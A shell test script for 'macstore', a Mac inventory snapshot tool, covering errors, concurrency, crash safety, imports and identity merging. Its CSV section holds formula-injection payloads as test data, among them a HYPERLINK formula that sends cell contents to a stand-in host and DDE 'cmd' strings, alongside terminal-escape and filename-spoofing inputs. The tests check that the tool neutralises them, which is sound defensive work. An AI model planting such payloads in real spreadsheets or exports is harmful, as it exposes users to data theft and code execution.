#!/bin/sh
# test_macstore.sh - macstore: every command with exact values, bad input,
# concurrent writers, kill -9 at random instants, import of the old
# service's files, a read-only store.
. "$(dirname "$0")/../setup.sh"

export MACSCAN_CONF="$T/none.conf"	# no configuration file
unset MACSCAN_DIR MACSCAN_KEEP COLUMNS
export TZ=CET-1CEST,M3.5.0,M10.5.0/3	# old file names are local times
S=$T/store
fixtures=$top/tests/fixtures/old

usage=$(cat <<'EOF'
usage: macstore [-qv] [-d dir] [-k keep] [-T time] add
       macstore [-qv] [-d dir] [-k keep] import file ...
       macstore [-acqtv] [-d dir] latest
       macstore [-qtv] [-d dir] list
       macstore [-qv] [-d dir] [-k keep] prune
       macstore [-qtv] [-d dir] history id
       macstore -h
EOF
)

# ---- usage -------------------------------------------------------------
check_eq "no command: exit 2" 2 "$(status macstore 2> "$T/err")"
check_eq "no command: usage" "$usage" "$(cat "$T/err")"
check_eq "-h: usage on stdout" "$usage" "$(macstore -h)"
check_eq "unknown command: exit 2" 2 \
    "$(status macstore -d "$S" frobnicate 2> "$T/err")"
check_eq "unknown command: named" "macstore: unknown command: frobnicate" \
    "$(head -n 1 "$T/err")"
check_eq "-k 0: exit 2" 2 "$(status macstore -d "$S" -k 0 prune 2> "$T/err")"
check_eq "-k 0: message" "macstore: -k: keep is too small: 0" "$(cat "$T/err")"
check_eq "-T garbage: exit 2" 2 \
    "$(status macstore -d "$S" -T yesterday add < /dev/null 2> "$T/err")"
check_eq "-a with list: exit 2" 2 "$(status macstore -d "$S" -a list 2>/dev/null)"
check_eq "history without id: exit 2" 2 \
    "$(status macstore -d "$S" history 2>/dev/null)"
check_eq "latest on a missing store: exit 3" 3 \
    "$(status macstore -d "$T/nowhere" latest 2> "$T/err")"
check_eq "latest on a missing store: message" \
    "macstore: store: $T/nowhere: No such file or directory" "$(cat "$T/err")"

# ---- add: bad lines are reported, good ones stored ------------------------
cat > "$T/in1" <<'EOF'
{"serial":"S1","ip":"10.0.0.1","computer_name":"Alice Mac","console_user":"alice","model_name":"MacBook Pro","os_version":"14.4.1","disk_free_bytes":123456789012,"battery_percent":87,"battery_present":true}
{"serial":"S2","ip":"10.0.0.2"
mac-bob.local

# a comment
{"model":"no identity"}
{"mac":"3c:22:fb:00:00:03","ip":"10.0.0.3","computer_name":"\u001b[31mEvil\u0007 name","battery_present":false,"disk_free_bytes":7000000000}
{"serial":"S1","ip":"10.0.0.11","computer_name":"Alice Mac","console_user":"alice","model_name":"MacBook Pro","os_version":"14.4.1","disk_free_bytes":15000000000,"disk_total_bytes":494384795648,"battery_percent":86,"battery_health_percent":91,"battery_present":true}
EOF
check_eq "add with bad lines: exit 1" 1 \
    "$(status macstore -d "$S" -T 2026-11-24T08:00:00Z add < "$T/in1" 2> "$T/err")"
check_match "bad JSON named with its line" \
    '^macstore: <stdin>:2: column [0-9]+: ' "$(sed -n 1p "$T/err")"
check_eq "messages, in order" \
    "macstore: <stdin>:3: a host line, not a record (macstore stores what macprobe prints)
macstore: <stdin>:6: record has no serial, mac, ip or host
macstore: <stdin>:8: same id S1 as line 1: keeping this one
macstore: 3 bad lines not stored" "$(sed -n '2,$p' "$T/err")"
check_eq "one snapshot" "machines-20261124T080000Z.json	2026-11-24T08:00:00Z	2" \
    "$(macstore -d "$S" list)"
check_eq "stored as written: id first, first_seen last" \
    '{"id":"3c:22:fb:00:00:03","mac":"3c:22:fb:00:00:03","ip":"10.0.0.3","computer_name":"\u001B[31mEvil\u0007 name","battery_present":false,"disk_free_bytes":7000000000,"first_seen":"2026-11-24T08:00:00Z"}' \
    "$(sed -n 3p "$S/snapshots/machines-20261124T080000Z.json")"
check_eq "the last of a duplicate id is kept" "10.0.0.11 15000000000" \
    "$(jq -r '.[] | select(.id=="S1") | "\(.ip) \(.disk_free_bytes)"' \
    "$S/snapshots/machines-20261124T080000Z.json")"

# ---- add: empty or wholly bad input writes nothing ------------------------
check_eq "empty input: exit 1" 1 \
    "$(status macstore -d "$S" add < /dev/null 2> "$T/err")"
check_eq "empty input: message" \
    "macstore: no records on stdin: nothing stored" "$(cat "$T/err")"
printf '# nothing\n\n' > "$T/in0"
check_eq "comments only: exit 1" 1 "$(status macstore -d "$S" add < "$T/in0" 2>/dev/null)"
printf '{"a":\nnot json at all!\n' > "$T/in0"
check_eq "all bad: exit 1" 1 "$(status macstore -d "$S" add < "$T/in0" 2> "$T/err")"
check_eq "all bad: each line reported, then nothing stored" 3 \
    "$(grep -c '^macstore: <stdin>:[12]: \|nothing stored' "$T/err")"
check_eq "still one snapshot" 1 "$(macstore -d "$S" list | wc -l)"

# ---- a second scan: S1 moved and the Evil Mac missed it --------------------
printf '%s\n' '{"serial":"S1","ip":"10.0.0.12","computer_name":"Alice Mac","console_user":"alice","model_name":"MacBook Pro","os_version":"14.5","disk_free_bytes":14500000000,"disk_total_bytes":494384795648,"battery_percent":80,"battery_health_percent":91,"battery_present":true,"rtt_ms":1.5}' |
    macstore -d "$S" -v -T 2026-11-24T08:10:00Z add 2> "$T/err"
check_eq "-v says what it wrote" \
    "macstore: add: stored 1 machine in $S/snapshots/machines-20261124T081000Z.json" \
    "$(cat "$T/err")"

# ---- latest ---------------------------------------------------------------
macstore -d "$S" latest > "$T/latest"
check_eq "latest: one line per machine, sorted by id" \
    "3c:22:fb:00:00:03 S1" "$(jq -r .id "$T/latest" | tr '\n' ' ' | sed 's/ $//')"
check_eq "latest: the moved Mac is one machine with its new address" \
    '"10.0.0.12" "2026-11-24T08:00:00Z" "2026-11-24T08:10:00Z" true 14500000000 1.5' \
    "$(jq -c 'select(.id=="S1") | [.ip,.first_seen,.last_seen,.online,.disk_free_bytes,.rtt_ms] | .[]' "$T/latest" | tr '\n' ' ' | sed 's/ $//')"
check_eq "latest: the Mac that missed the scan is offline" \
    '{"id":"3c:22:fb:00:00:03","mac":"3c:22:fb:00:00:03","ip":"10.0.0.3","computer_name":"\u001b[31mEvil\u0007 name","battery_present":false,"disk_free_bytes":7000000000,"first_seen":"2026-11-24T08:00:00Z","last_seen":"2026-11-24T08:00:00Z","online":false}' \
    "$(jq -c 'select(.online==false)' "$T/latest")"
check_eq "latest -a: one JSON array, same records" \
    "$(jq -c . "$T/latest")" "$(macstore -d "$S" -a latest | jq -c '.[]')"
check_eq "latest -a of an empty store" "[]" \
    "$(mkdir "$T/empty" && macstore -d "$T/empty" latest -a)"
check_eq "latest of an empty store: nothing, exit 0" "0:" \
    "$(set +e; out=$(macstore -d "$T/empty" latest); echo "$?:$out")"

# RISKS: the rules of lib/rules.h that fire (disk at or under 15 GB).
COLUMNS=120 macstore -d "$S" latest -t > "$T/table"
check_eq "latest -t: the table" \
"NAME             IP         USER   MODEL        MACOS  FREE GB  BATTERY  SEEN              RISKS
?[31mEvil? name  10.0.0.3   -      -            -          7.0     none  2026-11-24 08:00  disk_critical
Alice Mac        10.0.0.12  alice  MacBook Pro  14.5      14.5      80%  online            disk_critical" "$(cat "$T/table")"
check_eq "latest -t: the thresholds are the settings'" \
    "disk_critical disk_warning" \
    "$(COLUMNS=120 ALERT_DISK_CRITICAL_GB=10 macstore -d "$S" latest -t | awk 'NR > 1 { print $NF }' | tr '\n' ' ' | sed 's/ $//')"
check_eq "a broken setting: exit 2, the variable named" \
    "macstore: environment: ALERT_DISK_WARN_GB (10) is below ALERT_DISK_CRITICAL_GB (15) 2" \
    "$(ALERT_DISK_WARN_GB=10 macstore -d "$S" latest -t 2> "$T/err" > /dev/null; rc=$?; echo "$(cat "$T/err") $rc")"
check_eq "latest -t: no control character reaches the terminal" 0 \
    "$(tr -d '\n' < "$T/table" | tr -d '[:print:]' | tr -d '\200-\377' | wc -c)"
COLUMNS=50 macstore -d "$S" latest -t > "$T/table"
check_eq "latest -t: fits 50 columns" 50 \
    "$(while IFS= read -r l; do printf '%s' "$l" | wc -m; done < "$T/table" | sort -n | tail -n 1)"
check_match "latest -t: cut cells end with an ellipsis" '…' "$(cat "$T/table")"
check_eq "latest -t: numbers are never cut" 2 \
    "$(grep -c ' 7\.0 \| 14\.5 ' "$T/table")"

# ---- list, history --------------------------------------------------------
check_eq "list" "machines-20261124T080000Z.json	2026-11-24T08:00:00Z	2
machines-20261124T081000Z.json	2026-11-24T08:10:00Z	1" "$(macstore -d "$S" list)"
check_eq "list -t" "SNAPSHOT                        TIME                  MACHINES
machines-20261124T080000Z.json  2026-11-24T08:00:00Z         2
machines-20261124T081000Z.json  2026-11-24T08:10:00Z         1" \
    "$(COLUMNS=80 macstore -d "$S" -t list)"
check_eq "history of S1" \
'{"t":"2026-11-24T08:00:00Z","id":"S1","disk_free_bytes":15000000000,"disk_total_bytes":494384795648,"battery_percent":86,"battery_health_percent":91,"online":true}
{"t":"2026-11-24T08:10:00Z","id":"S1","disk_free_bytes":14500000000,"disk_total_bytes":494384795648,"battery_percent":80,"battery_health_percent":91,"online":true}' \
    "$(macstore -d "$S" history S1)"
check_eq "history of the offline Mac" \
'{"t":"2026-11-24T08:00:00Z","id":"3c:22:fb:00:00:03","disk_free_bytes":7000000000,"online":true}
{"t":"2026-11-24T08:10:00Z","id":"3c:22:fb:00:00:03","online":false}' \
    "$(macstore -d "$S" history 3c:22:fb:00:00:03)"
check_eq "history -t" "TIME              FREE GB  TOTAL GB  BATTERY  HEALTH  ONLINE
2026-11-24 08:00     15.0     494.4      86%     91%  yes
2026-11-24 08:10     14.5     494.4      80%     91%  yes" \
    "$(COLUMNS=80 macstore -d "$S" history -t S1)"
check_eq "history of an unknown id: exit 1" 1 \
    "$(status macstore -d "$S" history C02NOPE 2> "$T/err")"
check_eq "history of an unknown id: message" \
    "macstore: no history for machine 'C02NOPE'" "$(cat "$T/err")"

# ---- two adds in one second, retention, prune ----------------------------
for i in 1 2 3 4; do
	printf '{"serial":"S%s"}\n' "$i" |
	    macstore -d "$S" -T 2026-11-24T08:20:00Z add
done
check_eq "same second: suffixes, never overwritten" \
    "machines-20261124T081000Z.json
machines-20261124T082000Z.json
machines-20261124T082000Z-1.json
machines-20261124T082000Z-2.json
machines-20261124T082000Z-3.json" "$(macstore -d "$S" list | cut -f 1)"
check_eq "retention kept 5 (the default)" 5 "$(ls "$S/snapshots" | wc -l)"
check_eq "the newest of the same second is the newest" "S4" \
    "$(macstore -d "$S" latest | jq -r 'select(.online) | .id')"
check_eq "prune -k 2" 0 "$(status macstore -d "$S" -k 2 prune)"
check_eq "prune -k 2 kept the 2 newest" \
    "machines-20261124T082000Z-2.json machines-20261124T082000Z-3.json" \
    "$(macstore -d "$S" list | cut -f 1 | tr '\n' ' ' | sed 's/ $//')"
check_eq "first_seen outlives retention" "2026-11-24T08:00:00Z" \
    "$(printf '{"serial":"S1"}\n' | macstore -d "$S" -T 2026-11-24T08:30:00Z add &&
    macstore -d "$S" latest | jq -r 'select(.id=="S1") | .first_seen')"
check_eq "MACSCAN_KEEP from the environment" 1 \
    "$(printf '{"serial":"S1"}\n' | MACSCAN_KEEP=1 macstore -d "$S" add && ls "$S/snapshots" | wc -l)"
check_eq "MACSCAN_DIR from the environment" 1 \
    "$(MACSCAN_DIR=$S macstore list | wc -l)"
printf 'MACSCAN_DIR=%s\nMACSCAN_KEEP=2\n' "$S" > "$T/m.conf"
check_eq "MACSCAN_DIR and MACSCAN_KEEP from the configuration file" 2 \
    "$(printf '{"serial":"S1"}\n{"serial":"S2"}\n' | MACSCAN_CONF=$T/m.conf macstore add &&
    printf '{"serial":"S1"}\n' | MACSCAN_CONF=$T/m.conf macstore add &&
    MACSCAN_CONF=$T/m.conf macstore list | wc -l)"

# ---- a snapshot edited by hand, leftovers of a killed writer ---------------
printf '[\n{"id":"X","serial":"X"},\n{"id":"Y",' > "$S/snapshots/machines-20991231T000000Z.json"
printf 'junk' > "$S/snapshots/.tmp-leftover"
check_eq "corrupt snapshot: latest still works" 0 \
    "$(status sh -c 'macstore -d "$1" latest > "$2" 2> "$3"' sh "$S" "$T/out" "$T/err")"
check_match "corrupt snapshot: skipped with a warning naming it" \
    '^macstore: skipping snapshot machines-20991231T000000Z.json:3:[0-9]+: ' \
    "$(cat "$T/err")"
check_eq "corrupt snapshot: the others are read" "S1 S2" \
    "$(jq -r .id "$T/out" | tr '\n' ' ' | sed 's/ $//')"
check_eq "-q hides the warning" "" "$(macstore -q -d "$S" latest 2>&1 >/dev/null)"
rm -f "$S/snapshots/machines-20991231T000000Z.json"
printf '{"serial":"S1"}\n' | macstore -d "$S" add
check_eq "the next writer removed the leftover" "no" \
    "$(test -e "$S/snapshots/.tmp-leftover" && echo yes || echo no)"

# ---- two writers at once ---------------------------------------------------
gen() {	# gen FIRST N: N records
	awk -v f="$1" -v n="$2" 'BEGIN { for (i = f; i < f + n; i++)
	    printf("{\"serial\":\"W%06d\",\"ip\":\"10.%d.%d.%d\",\"hostname\":\"mac-%d.local\",\"disk_free_bytes\":%d,\"disk_total_bytes\":494384795648,\"battery_percent\":%d,\"os_version\":\"14.4.1\",\"model\":\"MacBookPro18,3\",\"console_user\":\"user%d\",\"padding\":\"%0200d\"}\n",
	    i, int(i / 62500) % 250, int(i / 250) % 250, i % 250 + 2, i,
	    1000000000 * (i % 400), i % 101, i, i) }'
}
W=$T/w
gen 0 3000 > "$T/wa"
gen 100000 3000 > "$T/wb"
macstore -d "$W" -T 2026-11-24T09:00:00Z add < "$T/wa" &
pa=$!
macstore -d "$W" -T 2026-11-24T09:00:00Z add < "$T/wb" &
pb=$!
ra=0; rb=0
wait "$pa" || ra=$?
wait "$pb" || rb=$?
check_eq "two writers: both succeed" "0 0" "$ra $rb"
check_eq "two writers: both snapshots land" \
    "machines-20261124T090000Z.json	3000
machines-20261124T090000Z-1.json	3000" \
    "$(macstore -d "$W" list | cut -f 1,3)"
check_eq "two writers: no interleaving (each file is one input)" "1 1" \
    "$(for f in "$W"/snapshots/machines-*.json; do
	jq -r '[.[].serial[0:2]] | unique | length' "$f"; done | tr '\n' ' ' | sed 's/ $//')"
check_eq "two writers: history holds both" 6000 \
    "$(grep -c '"online":true' "$W/history.ndjson")"

# ---- kill -9 at random instants --------------------------------------------
K=$T/k
gen 0 5000 > "$T/big"
macstore -d "$K" -k 3 add < "$T/big"
snaps=1
machines=5000
t0=$(date +%s%N)
macstore -d "$K" -k 3 -T 2026-11-24T10:00:00Z add < "$T/big"
dur=$(( ($(date +%s%N) - t0) / 1000000 ))	# ms
[ "$dur" -gt 0 ] || dur=1
snaps=2
bad=0 killed=0
i=0
while [ "$i" -lt 30 ]; do
	i=$((i + 1))
	macstore -d "$K" -k 3 add < "$T/big" 2>/dev/null &
	p=$!
	ms=$(( (RANDOM * 32768 + RANDOM) % (dur + 20) ))
	sleep "$(printf '%d.%03d' $((ms / 1000)) $((ms % 1000)))"
	if kill -9 "$p" 2>/dev/null; then killed=$((killed + 1)); fi
	wait "$p" 2>/dev/null || true
	for f in "$K"/snapshots/machines-*.json; do
		if ! jq -e 'type == "array" and length == 5000' "$f" > /dev/null 2>&1; then
			bad=$((bad + 1)); echo "     | iteration $i: $f does not parse"
		fi
	done
	# A writer killed between its rename and its prune leaves one
	# snapshot more than kept; the next one prunes back to 3, never
	# below.
	n=$(ls "$K"/snapshots/machines-*.json | wc -l)
	if [ "$n" -lt "$snaps" ] && [ "$n" -lt 3 ]; then
		bad=$((bad + 1)); echo "     | iteration $i: $n snapshots, was $snaps"
	fi
	snaps=$n
	if ! m=$(macstore -q -d "$K" latest | wc -l) || [ "$m" -lt "$machines" ]; then
		bad=$((bad + 1)); echo "     | iteration $i: latest gave $m machines"
	fi
	if ! macstore -q -d "$K" history W000042 > /dev/null; then
		bad=$((bad + 1)); echo "     | iteration $i: history failed"
	fi
done
check_eq "kill -9 x30 (${killed} killed mid-run): store always consistent" 0 "$bad"
printf '{"serial":"W000042"}\n' | macstore -d "$K" -k 3 add
check_eq "after the kills, the next writer leaves no temporary file" 0 \
    "$(ls -A "$K" "$K/snapshots" | grep -c '^\.tmp-' || true)"
check_eq "after the kills, every history line parses" 0 \
    "$(jq -c . "$K/history.ndjson" > /dev/null 2>&1; echo $?)"

# ---- import of the old service's files --------------------------------------
I=$T/imp
check_eq "import: exit 1 (two entries are not machines)" 1 \
    "$(status macstore -d "$I" import "$fixtures"/smartelia_machines_*.json 2> "$T/err")"
check_eq "import: what was not imported, named" \
    "macstore: $fixtures/smartelia_machines_20250115_104000.json: machine 3: not an object
macstore: $fixtures/smartelia_machines_20250115_104000.json: machine 4: no serial, mac or ip" \
    "$(cat "$T/err")"
check_eq "import: one snapshot per file, at the time in its name" \
    "machines-20250115T093000Z.json	2025-01-15T09:30:00Z	3
machines-20250115T094000Z.json	2025-01-15T09:40:00Z	2" "$(macstore -d "$I" list)"
macstore -d "$I" latest > "$T/imp.out"
check_eq "import: ids (serial, else MAC, else IP)" \
    "172.17.18.90 3c:22:fb:a1:b2:c3 C07ZQ0ABJYVX a4:83:e7:01:02:03" \
    "$(jq -r .id "$T/imp.out" | tr '\n' ' ' | sed 's/ $//')"
check_eq "import: the old scanner's fields mapped" \
    '{"ip":"172.17.18.75","mac":"3c:22:fb:a1:b2:c3","model":"MacBookPro18,3","model_name":"MacBook Pro","os_version":"14.4.1","arch":"arm64","disk_free_bytes":132070244352,"battery_percent":87,"battery_present":true,"ac_power":true,"battery_cycles":312,"battery_condition":"Normal","console_user":"alice","taille":"14 pouces","annee":2021,"open_apps":"Finder, Safari, Slack"}' \
    "$(jq -c '.[] | select(.id=="3c:22:fb:a1:b2:c3") | {ip,mac,model,model_name,os_version,arch,disk_free_bytes,battery_percent,battery_present,ac_power,battery_cycles,battery_condition,console_user,taille,annee,open_apps}' \
    "$I/snapshots/machines-20250115T093000Z.json")"
check_eq "import: Unknown, root and null are absent, not faked" \
    '{"mac":"a4:83:e7:01:02:03","arch":"x86_64","disk_free_bytes":1319413953331,"console_user":null,"battery_percent":null,"model_info":null,"annee":null,"ac_power":true}' \
    "$(jq -c 'select(.id=="a4:83:e7:01:02:03") | {mac,arch,disk_free_bytes,console_user,battery_percent,model_info,annee,ac_power}' "$T/imp.out")"
check_eq "import: the other names, GB as decimal bytes, local times" \
    '{"ip":"172.17.18.76","os_version":"14.5","disk_free_bytes":98500000000,"disk_total_bytes":494380000000,"battery_percent":64,"battery_state":"discharging","battery_cycles":313,"console_user":"alice","scanned_at":"2025-01-15T09:40:02Z","department":"Design","first_seen":"2025-01-15T09:30:00Z","last_seen":"2025-01-15T09:40:00Z","online":true}' \
    "$(jq -c 'select(.id=="3c:22:fb:a1:b2:c3") | {ip,os_version,disk_free_bytes,disk_total_bytes,battery_percent,battery_state,battery_cycles,console_user,scanned_at,department,first_seen,last_seen,online}' "$T/imp.out")"
check_eq "import: serial_number, disk_free in GB, \"500 GB\", charging, epoch time" \
    '{"serial":"C07ZQ0ABJYVX","disk_free_bytes":250000000000,"disk_total_bytes":500000000000,"battery_state":"charging","scanned_at":"2025-01-15T09:40:00Z","console_user":null}' \
    "$(jq -c 'select(.id=="C07ZQ0ABJYVX") | {serial,disk_free_bytes,disk_total_bytes,battery_state,scanned_at,console_user}' "$T/imp.out")"
check_eq "import: the machines missing from the later file are offline" \
    "172.17.18.90 a4:83:e7:01:02:03" \
    "$(jq -r 'select(.online==false) | .id' "$T/imp.out" | tr '\n' ' ' | sed 's/ $//')"
check_eq "import: history of each file" 2 \
    "$(macstore -d "$I" history 3c:22:fb:a1:b2:c3 | jq -s 'map(.disk_free_bytes) | length')"
check_eq "import again: skipped, nothing doubled" 0 \
    "$(status macstore -d "$I" import "$fixtures/smartelia_machines_20250115_103000.json" 2> "$T/err")"
check_match "import again: said so" 'exists already \(machines-20250115T093000Z.json\): skipped' \
    "$(cat "$T/err")"
cp "$fixtures/smartelia_machines_20250115_103000.json" "$T/export.json"
touch -d '2025-01-16 12:00:00 UTC' "$T/export.json"
check_eq "import: a file named otherwise is taken at its mtime" \
    "2025-01-16T12:00:00Z" \
    "$(macstore -d "$I" import "$T/export.json" && macstore -d "$I" list | tail -n 1 | cut -f 2)"
printf '{"not":"an array"}' > "$T/bad.json"
check_eq "import of a file that is not an array: exit 1" 1 \
    "$(status macstore -d "$I" import "$T/bad.json" 2> "$T/err")"
check_eq "import of a file that is not an array: message" \
    "macstore: $T/bad.json: not a JSON array of machines" "$(cat "$T/err")"

# ---- one bad record is refused alone; the store is never emptied ---------
D=$T/deep
printf '{"serial":"G1","ip":"10.0.0.1","disk_free_bytes":5000000000}\n' |
    macstore -d "$D" -T 2026-11-24T08:00:00Z add
deep=$(awk 'BEGIN { s = "{\"serial\":\"D1\",\"x\":"
	for (i = 0; i < 598; i++) s = s "{\"x\":"
	s = s "{}"
	for (i = 0; i < 598; i++) s = s "}"
	print s "}" }')
check_eq "the deep record is nested 600 deep" 600 \
    "$(printf '%s' "$deep" | tr -cd '{' | wc -c)"
printf '%s\n%s\n%s\n' '{"serial":"G2","ip":"10.0.0.2"}' "$deep" \
    '{"serial":"G3","ip":"10.0.0.3"}' > "$T/deep.in"
check_eq "a record nested 600 deep among good ones: exit 1" 1 \
    "$(status macstore -d "$D" -T 2026-11-24T08:10:00Z add < "$T/deep.in" 2> "$T/err")"
check_eq "the deep record is refused alone, named by its line" \
    "macstore: <stdin>:2: nested more than 64 deep
macstore: 1 bad line not stored" "$(cat "$T/err")"
check_eq "the other records are stored and read" "G1 G2 G3" \
    "$(macstore -d "$D" latest | jq -r .id | tr '\n' ' ' | sed 's/ $//')"
for i in 1 2 3 4 5; do
	printf '%s\n' "$deep" |
	    macstore -q -d "$D" -k 2 -T "2026-11-24T09:0$i:00Z" add 2>/dev/null || true
done
check_eq "five adds of a deep record alone: nothing stored, nothing pruned" \
    "machines-20261124T080000Z.json machines-20261124T081000Z.json" \
    "$(macstore -d "$D" list | cut -f 1 | tr '\n' ' ' | sed 's/ $//')"
check_eq "five adds of a deep record alone: the view is whole" \
    "G1 G2 G3" \
    "$(macstore -d "$D" latest | jq -r .id | tr '\n' ' ' | sed 's/ $//')"
U=$T/unreadable
mkdir -p "$U/snapshots"
printf '[\n{"id"' > "$U/snapshots/machines-20261124T080000Z.json"
check_eq "latest when no snapshot can be read: exit 3" 3 \
    "$(status sh -c 'macstore -d "$1" latest > "$2" 2> "$3"' sh "$U" "$T/out" "$T/err")"
check_eq "latest when no snapshot can be read: nothing on stdout" "" \
    "$(cat "$T/out")"
check_eq "latest when no snapshot can be read: says so" \
    "macstore: $U: 1 snapshot, none readable" "$(tail -n 1 "$T/err")"

# ---- the files follow the umask ---------------------------------------------
for m in 077 022; do
	M=$T/umask$m
	(umask "$m" && printf '{"serial":"S1"}\n{"serial":"S2"}\n' |
	    macstore -d "$M" -T 2026-11-24T08:00:00Z add &&
	    printf '{"serial":"S1"}\n' |
	    macstore -d "$M" -T 2026-11-24T08:10:00Z add)
	if [ "$m" = 077 ]; then d=700 f=600; else d=755 f=644; fi
	check_eq "umask $m: directories $d, files $f" \
	    "$d . $d snapshots $f history.ndjson $f lock $f snapshots/machines-20261124T080000Z.json $f snapshots/machines-20261124T081000Z.json" \
	    "$(cd "$M" && stat -c '%a %n' . snapshots history.ndjson lock snapshots/machines-*.json | tr '\n' ' ' | sed 's/ $//')"
done

# ---- identity: failed probes, private addresses, two Macs, one serial ---------
ID=$T/ident
idf=$top/tests/fixtures/identity
for n in 1 2 3; do
	status macstore -d "$ID" -T "2026-11-24T08:${n}0:00Z" add \
	    < "$idf/scan$n.ndjson" > /dev/null 2> "$T/id$n.err"
	macstore -d "$ID" latest > "$T/id$n.latest"
	check_eq "identity, scan $n: the merged view" "$(cat "$idf/latest$n.json")" \
	    "$(jq -c '{id, identity_conflict, online, probe, ip}' "$T/id$n.latest")"
done
check_eq "identity: the same Mac through two ports is one machine" \
    "macstore: <stdin>:2: same id FVFGK0AAQ6L4 as line 1: keeping this one" \
    "$(cat "$T/id1.err")"
check_eq "identity: two Macs claiming one serial are said" \
    "macstore: 2 machines claim the serial D2FQ7WX3L1: kept apart, flagged identity_conflict" \
    "$(cat "$T/id2.err")"
check_eq "identity: the victim's full disk is in the view, beside the other Mac" \
    "D2FQ7WX3L1 1500000000 D2FQ7WX3L1@F0E1D2C3-B4A5-5968-8776-655443322110 900000000000" \
    "$(jq -r 'select(.id | startswith("D2FQ")) | "\(.id) \(.disk_free_bytes)"' "$T/id2.latest" | tr '\n' ' ' | sed 's/ $//')"
check_eq "identity: the failed probe goes on the Mac's history" \
    "2026-11-24T08:10:00Z true 2026-11-24T08:20:00Z true 2026-11-24T08:30:00Z true" \
    "$(macstore -d "$ID" history FVFGK0AAQ6L4 | jq -r '"\(.t) \(.online)"' | tr '\n' ' ' | sed 's/ $//')"
check_eq "identity: the state outlives retention (identity.json)" \
    "D2FQ7WX3L1 D2FQ7WX3L1@F0E1D2C3-B4A5-5968-8776-655443322110 FVFGK0AAQ6L4" \
    "$(jq -r '.machines | keys | join(" ")' "$ID/identity.json")"

# ---- latest -c: CSV for spreadsheets, formulas neutralised ------------------
C=$T/csv
cat > "$T/hostile.ndjson" <<'EOF'
{"serial":"H1","ip":"198.18.0.10","computer_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","disk_free_bytes":15000000000,"battery_percent":0,"ac_power":true}
{"serial":"H2","ip":"198.18.0.11","computer_name":"+cmd|' /C calc'!A0","hostname":"h2.local"}
{"serial":"H3","ip":"198.18.0.12","computer_name":"@SUM(1+1)*cmd|' /C calc'!A0","console_user":"-2+3"}
{"serial":"H4","ip":"198.18.0.13","computer_name":"\t=1+1","model":"MacBookPro18,3"}
{"serial":"H5","ip":"198.18.0.14","computer_name":"\r=1+1","os_version":"14.4.1"}
{"serial":"H6","ip":"198.18.0.15","computer_name":"Alice \"the\" Mac, 2nd floor","hw_macs":["3c:22:fb:40:00:01","3c:22:fb:40:10:01"]}
{"serial":"H7","ip":"198.18.0.16","computer_name":"line one\nline two\r\nthree","rtt_ms":1.25}
{"serial":"H8","ip":"198.18.0.17","computer_name":"evil\u202ecod.exe","hostname":"=1+1"}
{"serial":"=H9","ip":"198.18.0.18","probe":"ok","probe_incomplete":["backup","=updates"]}
{"mac":"3c:22:fb:00:00:0a","ip":"198.18.0.19","probe":"auth_failed","probe_error":"-authentication failed"}
EOF
macstore -d "$C" -T 2026-11-24T08:00:00Z add < "$T/hostile.ndjson"
macstore -d "$C" latest -c > "$T/latest.csv"
macstore -d "$C" latest > "$T/latest.json"
check "latest -c: Python's csv reads what latest says, cell for cell" \
    python3 "$top/tests/cli/csv_check.py" "$T/latest.csv" "$T/latest.json" \
    "$top/tests/fixtures/csv/record.csv"
check_eq "latest -c: one header row, then one row per machine" 11 \
    "$(python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))))' "$T/latest.csv")"
check_eq "latest -c: a name that is a formula is text" \
    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" \
    "$(python3 -c 'import csv, sys; print([r[1] for r in csv.reader(open(sys.argv[1], newline="")) if r[0] == "H1"][0])' "$T/latest.csv")"
check_eq "latest -c of an empty store: the header alone" \
    "$(head -n 1 "$top/tests/fixtures/csv/record.csv")" \
    "$(macstore -d "$T/empty" latest -c)"
check_eq "latest -c with -a or -t: exit 2" "2 2 2" \
    "$(status macstore -d "$C" -ac latest 2>/dev/null) $(status macstore -d "$C" -ct latest 2>/dev/null) $(status macstore -d "$C" -c list 2>/dev/null)"

# ---- a read-only store -------------------------------------------------------
R=$T/ro
printf '{"serial":"S1"}\n' | macstore -d "$R" -T 2026-11-24T08:00:00Z add
if [ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null; then
	ro() { unshare -m sh -c 'mount --bind "$1" "$1" &&
	    mount -o remount,bind,ro "$1" "$1" && shift && "$@"' sh "$R" "$@"; }
	roerr="Read-only file system"
else
	chmod 555 "$R" "$R/snapshots"
	ro() { "$@"; }
	roerr="Permission denied"
fi
check_eq "read-only store: add exits 3" 3 \
    "$(printf '{"serial":"S2"}\n' | status ro macstore -d "$R" add 2> "$T/err")"
check_match "read-only store: a clear error" \
    "^macstore: cannot lock the store: $R/lock: $roerr\$|^macstore: $R: cannot create a file in $R/snapshots: $roerr\$" \
    "$(cat "$T/err")"
check_eq "read-only store: readers still work" "S1" \
    "$(ro macstore -d "$R" latest | jq -r .id)"
check_eq "read-only store: nothing changed" 1 "$(ls "$R/snapshots" | wc -l)"
chmod 755 "$R" "$R/snapshots"
mkdir "$T/ro2"
if [ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null; then
	check_eq "read-only empty directory: add exits 3" 3 \
	    "$(printf '{"serial":"S2"}\n' | status unshare -m sh -c 'mount --bind "$1" "$1" &&
	    mount -o remount,bind,ro "$1" "$1" && macstore -d "$1" add' sh "$T/ro2" 2> "$T/err")"
	check_eq "read-only empty directory: message" \
	    "macstore: store: $T/ro2/snapshots: Read-only file system" "$(cat "$T/err")"
fi

finish
